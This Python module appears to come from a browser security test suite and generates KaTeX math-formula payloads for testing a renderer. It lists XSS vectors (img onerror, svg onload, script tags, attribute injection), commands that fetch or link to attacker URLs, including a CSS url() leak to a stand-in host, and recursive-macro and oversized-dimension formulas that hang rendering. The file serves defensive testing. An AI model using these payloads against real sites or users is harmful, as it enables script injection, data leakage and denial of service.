"""KaTeX: commands that lead away, fetch, write markup, or never end."""

from __future__ import annotations

from collections.abc import Iterator

from tests.browser.corpus.payload import Marks
from tests.browser.corpus.vectors import leaking, running

FOLLOWED = (r"\href{URL}{x}", r"\url{URL}", r"\htmlData{href=URL}{x}", r"\def\a{\href}\a{URL}{x}")
FETCHED = (r"\includegraphics[width=1em]{URL}", r"\htmlStyle{background:url(URL)}{x}", r"\href{URL}{x}", r"\text{URL}")
WRITTEN = (
    r"\htmlId{x}{y}\htmlClass{fixed inset-0}{z}",
    r"\htmlData{onload=SCRIPT}{x}",
    r"\htmlStyle{animation:x}{y}",
    r"\text{<img src=x onerror=SCRIPT>}",
    r"\unicode{<img src=x onerror=SCRIPT>}",
    r"\color{red;background:url(HOST/leak/color)}x",
    r"\textcolor{'onmouseover=SCRIPT'}{x}",
    r"\class{x}{y}\cssId{z}{w}",
    r"\unknown{<script>SCRIPT</script>}",
    r"</span><img src=x onerror=SCRIPT>",
    r"\verb|<img src=x onerror=SCRIPT>|",
    r"\tag{<img src=x onerror=SCRIPT>}",
    r"\begin{x}<svg onload=SCRIPT>\end{x}",
)
ENDLESS = (
    r"\def\a{\a\a}\a",
    r"\def\a{x\a}\def\b{\a\a}\b",
    r"\def\a#1{#1#1#1#1}\a{\a{\a{\a{\a{\a{\a{\a{x}}}}}}}}",
    r"\rule{999999em}{999999em}",
    r"\kern{-99999em}x",
    r"\raisebox{99999em}{x}",
    r"\hspace{1e9cm}x",
    "{" * 400 + "x" + "}" * 400,
    r"\sqrt{" * 200 + "x" + "}" * 200,
    r"\frac{1}{" * 150 + "x" + "}" * 150,
)
SIGNS = ("${}$", "$$\n{}\n$$", "$${}$$", "\\({}\\)", "\\[\n{}\n\\]", "```math\n{}\n```")


def links(marks: Marks) -> Iterator[str]:
    for place, command in enumerate(FOLLOWED):
        for number, url in enumerate(running(marks)):
            if number % 3 == place % 3:
                yield framed(command.replace("URL", url.replace("\n", "")), number)


def fetches(marks: Marks) -> Iterator[str]:
    for place, command in enumerate(FETCHED):
        for number, url in enumerate(leaking(marks, f"formula{place}")):
            yield framed(command.replace("URL", url), number)


def markup(marks: Marks) -> Iterator[str]:
    for command in WRITTEN:
        for number in range(len(SIGNS)):
            yield framed(command.replace("SCRIPT", marks.script).replace("HOST", marks.host), number)


def bombs(_: Marks) -> Iterator[str]:
    for command in ENDLESS:
        for number in range(2):
            yield framed(command, number)


def framed(formula: str, number: int) -> str:
    return SIGNS[number % len(SIGNS)].replace("{}", formula)
